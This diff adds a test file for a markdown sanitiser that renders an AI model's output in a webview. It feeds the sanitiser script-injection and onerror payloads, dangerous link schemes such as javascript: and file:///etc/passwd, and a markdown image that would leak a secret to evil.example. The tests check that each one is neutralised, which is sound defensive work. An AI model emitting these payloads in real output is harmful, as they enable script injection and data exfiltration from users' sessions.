@@ -1,0 +1,58 @@
+import { describe, expect, test } from "vitest";
+import { markdownHtml } from "../../../src/webview/markdown/markdown-html";
+
+describe("a model's markdown", () => {
+  test.each([
+    ["a script", "<script>alert(1)</script>"],
+    ["a picture tag", "<img src=https://evil.example/x onerror=alert(1)>"],
+    ["a style", "<style>body{display:none}</style>"],
+    ["a refresh", '<meta http-equiv="refresh" content="0;url=https://evil.example">'],
+    ["a tag in the middle of words", "hello <b onclick=alert(1)>there</b>"],
+  ])("shows %s as the text that it is", (_what, source) => {
+    const html = markdownHtml(source);
+    expect(html).not.toMatch(/<(script|img|style|meta|b)\b/);
+    expect(html).toContain("&lt;");
+  });
+
+  test("shows a picture's words and never its address", () => {
+    const html = markdownHtml("![a secret](https://evil.example/?d=secret) and ![x][1]\n\n[1]: https://evil.example/y");
+    expect(html).toContain("a secret");
+    expect(html).not.toMatch(/img|evil/);
+  });
+
+  test.each([
+    "javascript:alert(1)",
+    "JaVaScRiPt:alert(1)",
+    "data:text/html,x",
+    "vbscript:x",
+    "file:///etc/passwd",
+    "command:thinkaloud.accept",
+    "http://plain.example",
+    "//evil.example",
+    "src/other.py",
+  ])("a link to %s is only its words", (href) => {
+    const html = markdownHtml(`Click [the words](<${href}>) now`);
+    expect(html).toContain("Click the words now");
+    expect(html).not.toMatch(/<a|href/);
+  });
+
+  test("an https link says which host it leads to, also when its words pretend another", () => {
+    const html = markdownHtml("See [https://good.example](https://evil.example/path)");
+    expect(html).toContain('href="https://evil.example/path"');
+    expect(html).toContain('<span class="host">(evil.example)</span>');
+  });
+
+  test("a host in look-alike letters shows its real name", () => {
+    expect(markdownHtml("[bank](https://b\u0430nk.example/)")).toContain("(xn--");
+  });
+
+  test("an address that stands for itself is not said twice, and bare addresses are no links", () => {
+    expect(markdownHtml("<https://docs.example/x>")).not.toContain('class="host"');
+    expect(markdownHtml("https://docs.example/x")).not.toContain("<a");
+  });
+
+  test("the language of a code block cannot carry anything but a name", () => {
+    expect(markdownHtml('```py"><img src=x>\ncode\n```')).toContain('<pre data-language="py"><code>code');
+    expect(markdownHtml("```c++\n<b>\n```")).toContain('<pre data-language="c++"><code>&lt;b&gt;');
+  });
+});
